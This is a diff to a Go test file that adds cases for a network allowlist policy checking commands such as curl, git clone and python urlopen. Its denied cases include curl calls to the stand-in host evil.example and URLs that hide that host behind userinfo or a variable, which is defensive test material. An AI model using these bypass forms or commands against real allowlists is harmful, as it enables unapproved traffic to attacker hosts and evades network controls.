@@ -80,12 +80,18 @@ func TestCheckAllowlistScriptText(t *testing.T) {
 		{"python3", "-c", "import urllib.request as u; u.urlopen('https://modules.example.com')"},
 		{"node", "-e", `fetch("https://modules.example.com")`},
 		{"sh", "-c", "curl https://modules.example.com;true"},
+		// made at run time: the proxy decides
+		{"sh", "-c", `curl "https://modules.example.com:$PORT/x"`},
+		{"sh", "-c", `git clone "https://x:$TOKEN@git.example.com:${PORT}/r.git"`},
 	} {
 		assert.True(t, policy.CheckAllowlist(argv, allowGo).Allowed, "%q", argv)
 	}
 	for _, argv := range [][]string{
 		{"python3", "-c", `u.urlopen('https://modules.example.com\x40evil.example')`},
 		{"python3", "-c", `u.urlopen('https://evil.example')`},
+		{"sh", "-c", `curl "https://$HOST/x"`},
+		{"sh", "-c", `curl "https://modules.example.com:$X@evil.example/x"`},
+		{"sh", "-c", `curl "https://evil.example:$PORT/x"`},
 	} {
 		assert.False(t, policy.CheckAllowlist(argv, allowGo).Allowed, "%q", argv)
 	}
